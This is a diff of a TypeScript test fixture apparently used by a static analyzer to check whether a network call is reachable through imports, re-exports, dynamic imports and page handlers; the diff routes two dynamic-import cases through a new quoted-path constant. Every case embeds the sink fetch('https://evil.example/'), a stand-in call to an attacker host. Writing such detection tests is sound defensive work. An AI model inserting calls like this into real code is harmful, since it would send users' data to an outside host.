@@ -4,6 +4,8 @@ import { END, inFunction, loads, modules, type RelaxedCase, script, several } fr
 import { smallApp } from './small-app.ts';
 
 const SEND = "fetch('https://evil.example/')";
+/** In quotes, so that it is no import of this file. */
+const C = "'./c.js'";
 
 export const REACHED_CASES: readonly RelaxedCase[] = [
   ...script(
@@ -189,8 +191,8 @@ export const REACHED_CASES: readonly RelaxedCase[] = [
   modules('a binding that is exported', { 'app.js': `import { 'a b' as g } from './b.js';\ng();${END}`, 'b.js': `export { 'x y' as 'a b' } from './c.js';\n`, 'c.js': `const f = () => ${SEND};\nexport { f as 'x y' };\n` }),
   modules('a default under another name', { 'app.js': `import { g } from './b.js';\ng();${END}`, 'b.js': `export { default as g } from './c.js';\n`, 'c.js': `const f = () => ${SEND};\nexport default f;\n` }),
   modules('a module as a member', { 'app.js': `import { ns } from './b.js';\nns.f();${END}`, 'b.js': `export * as ns from './c.js';\n`, 'c.js': `export const f = () => ${SEND};\n` }),
-  modules('a module that is loaded later', { 'app.js': `import('./c.js').then((m) => m.f());${END}`, 'c.js': `export const f = () => ${SEND};\n` }),
-  modules('a module that is loaded later', { 'app.js': `const { default: f } = await import('./c.js');\nf();${END}`, 'c.js': `export default () => ${SEND};\n` }),
+  modules('a module that is loaded later', { 'app.js': `import(${C}).then((m) => m.f());${END}`, 'c.js': `export const f = () => ${SEND};\n` }),
+  modules('a module that is loaded later', { 'app.js': `const { default: f } = await import(${C});\nf();${END}`, 'c.js': `export default () => ${SEND};\n` }),
   modules('the top of a module', { 'app.js': `import './c.js';${END}`, 'c.js': `${SEND};\n` }),
   modules('a function that another module is given', { 'app.js': `import { set, run } from './c.js';\nset(() => ${SEND});\nrun();${END}`, 'c.js': `let f;\nexport const set = (g) => { f = g; };\nexport const run = () => f();\n` }),
   { by: 'a handler or script in a page', files: smallApp({ 'index.html': `${loads(['app.js'])}<p onclick="go()()">`, 'app.js': `function go() { return function () { ${SEND}; }; }${END}` }) },
